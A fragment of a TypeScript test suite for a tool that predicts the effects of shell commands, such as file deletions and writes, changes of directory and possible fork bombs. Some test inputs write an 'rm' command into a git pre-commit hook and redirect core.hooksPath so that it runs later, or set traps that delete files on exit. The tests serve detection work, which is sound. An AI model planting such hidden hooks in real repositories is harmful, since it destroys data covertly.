      expect(told).toContain(expected)
      expect(told.some((line) => line.includes('fork-bomb'))).toBe(expected.includes('fork-bomb'))
    })
  }
})

describe('what was found with more kinds of programs', () => {
  for (const [text, expected] of [
    ['jobs -x rm x', 'delete /repo/x'],
    ['jobs -l', ''],
    ['printf "rm x" > hk/pre-commit; git config core.hooksPath hk', 'possible delete /repo/x'],
    ['printf "rm x" > hk/pre-commit; git config set core.hooksPath ./hk', 'possible delete /repo/x'],
    ['printf "rm x" > hk/readme; git config core.hooksPath hk', ''],
    ['printf "rm x" > hk/pre-commit; git config core.hooksPath other', ''],
  ] as const) {
    test(text, () =>
      expect(
        lines(text, WORLD)
          .filter((line) => line.includes('delete'))
          .join(),
      ).toBe(expected),
    )
  }
})

describe('what happens at a time or in a place that is not known is said', () => {
  for (const [text, reason] of [
    ["trap 'cd dir' USR1; kill -USR1 $$; touch x", 'a trap changes the directory, between which commands is not known'],
    ["trap 'cd dir; rm x' EXIT", null],
    ["trap 'rm x' INT TERM", null],
    ['cd "$1"; make all', 'in which directory `make` looks for its rules is not known'],
    ['cd dir; make all', null],
  ] as const) {
    test(text, () => {
      const said = facts(text, WORLD).effects.flatMap((item) => (item.verb === 'opaque' ? [item.reason] : []))
      expect(said).toEqual(reason === null ? [] : [reason])
    })
  }
})

describe('a directory that may not be entered', () => {
  for (const [text, expected] of [
    ['if cd dir; then cd ..; fi; touch x', 'write fs:touch /repo/x'],
    ['if cd dir; then touch y; fi', 'possible write fs:touch /repo/dir/y'],
    ['if ! cd dir; then exit 1; fi; touch x', 'write fs:touch /repo/dir/x'],
    ['cd dir; builtin cd nowhere; touch x', 'write fs:touch /repo/dir/x'],
    ['cd dir; command cd nowhere; touch x', 'write fs:touch /repo/dir/x'],
    ['make -f mk all; cd nowhere; touch x', 'write fs:touch /repo/x'],
    ['xargs rm -r dir < /dev/null; cd dir; touch x', 'write fs:touch /repo/x'],
  ] as const) {
    test(`${text}: ${expected}`, () => expect(lines(text, WORLD)).toContain(expected))
  }
})
